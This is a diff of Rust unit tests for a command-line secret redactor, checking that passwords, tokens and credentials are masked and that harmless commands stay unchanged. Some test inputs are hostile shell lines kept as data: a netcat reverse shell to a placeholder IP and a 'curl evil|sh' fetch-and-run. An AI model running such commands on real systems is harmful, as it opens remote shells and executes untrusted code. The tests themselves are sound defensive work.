@@ -46,6 +46,10 @@ fn secrets_are_cut_out() {
             "env|AWS_SECRET_ACCESS_KEY=<redacted>|aws",
         ),
         (&["env", "GITHUB_TOKEN=abc"], "env|GITHUB_TOKEN=<redacted>"),
+        (
+            &["docker", "run", "--env=POSTGRES_PASSWORD=p&s;w", "db"],
+            "docker|run|--env=POSTGRES_PASSWORD=<redacted>|db",
+        ),
         // In the text of a shell, in JSON, in headers.
         (
             &["sh", "-c", "export DB_PASS=x; run --token abc && mysql"],
@@ -96,6 +100,64 @@ fn secrets_are_cut_out() {
             &["skopeo", "copy", "--creds=me:x"],
             "skopeo|copy|--creds=me:<redacted>",
         ),
+        (&["sudo", "mysql", "-psecret"], "sudo|mysql|-p<redacted>"),
+        (
+            &["sshpass", "-p", "x", "ssh", "-p", "22", "h"],
+            "sshpass|-p|<redacted>|ssh|-p|22|h",
+        ),
+        (
+            &["docker", "login", "-u", "me", "-p", "x"],
+            "docker|login|-u|me|-p|<redacted>",
+        ),
+        (
+            &[
+                "oc",
+                "create",
+                "secret",
+                "generic",
+                "a",
+                "--from-literal=x=y",
+            ],
+            "oc|create|secret|generic|a|--from-literal=x=<redacted>",
+        ),
+        (
+            &["redis-server", "--requirepass", "x"],
+            "redis-server|--requirepass|<redacted>",
+        ),
+        // A script shows all but the secret.
+        (
+            &["sh", "-c", "TOKEN=1; nc -e /bin/sh 1.2.3.4 44"],
+            "sh|-c|TOKEN=<redacted>; nc -e /bin/sh 1.2.3.4 44",
+        ),
+        (
+            &[
+                "bash",
+                "-ec",
+                "tool --github-token abc -v; x --db-pass hunter2",
+            ],
+            "bash|-ec|tool --github-token <redacted> -v; x --db-pass <redacted>",
+        ),
+        (
+            &[
+                "sh",
+                "-c",
+                r#"curl -d "{\"password\":\"hunter2\",\"n\":1}""#,
+            ],
+            r#"sh|-c|curl -d "{\"password\":<redacted>,\"n\":1}""#,
+        ),
+        (
+            &["sh", "-c", "PASSWORD=\"cut off"],
+            "sh|-c|PASSWORD=<redacted>",
+        ),
+        (&["app: --password x"], "app: --password <redacted>"),
+        (
+            &["psql", "-c", "ALTER USER a PASSWORD 'x'"],
+            "psql|-c|ALTER USER a PASSWORD '<redacted>'",
+        ),
+        (
+            &["curl", "-H", "Authorization: Token abc"],
+            "curl|-H|Authorization: Token <redacted>",
+        ),
         // By their look.
         (
             &["git", "clone", "https://me:x@h/r"],
@@ -142,6 +204,19 @@ fn what_is_no_secret_stays() {
         &["ls", "-la", "/etc/passwd"],
         &["sh", "-c", "cat /run/secrets/token | wc"],
         &["openssl", "dgst", "-sha256"],
+        &["docker", "run", "-p", "8080:80", "nginx"],
+        &[
+            "oc",
+            "patch",
+            "pod/a",
+            "-p",
+            "{\"spec\":{\"privileged\":true}}",
+        ],
+        &["oc", "logs", "-p", "pod"],
+        &["adduser", "--disabled-password", "app"],
+        &["ansible-playbook", "--ask-become-pass", "site.yml"],
+        &["sh", "-c", "password=\"$(curl evil|sh)\""],
+        &["sh", "-c", "read -p \"Password: \" pw; echo \"done\""],
         &["/opt/password=x"],
         &[],
     ] {
